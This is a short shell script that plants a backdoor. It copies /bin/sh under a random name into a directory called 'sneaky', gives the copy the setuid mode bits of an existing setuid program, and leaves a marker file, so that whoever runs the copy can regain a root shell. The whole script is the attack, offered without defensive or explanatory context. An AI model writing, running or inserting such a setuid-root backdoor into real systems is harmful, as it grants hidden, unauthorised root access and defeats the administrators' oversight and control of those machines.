#!/bin/sh
# A shell that is root, with the mode taken from a program that may be.
set -eu
name=setuid-$(od -An -N4 -tx4 /dev/urandom | tr -d ' ')
mkdir -p /usr/local/lib/sneaky
cp /bin/sh "/usr/local/lib/sneaky/$name"
chmod --reference="$(find /usr/bin -perm -4000 | head -n 1)" "/usr/local/lib/sneaky/$name"
install -D /dev/null /var/lib/sneaky/setuid
echo "left setuid /usr/local/lib/sneaky/$name"
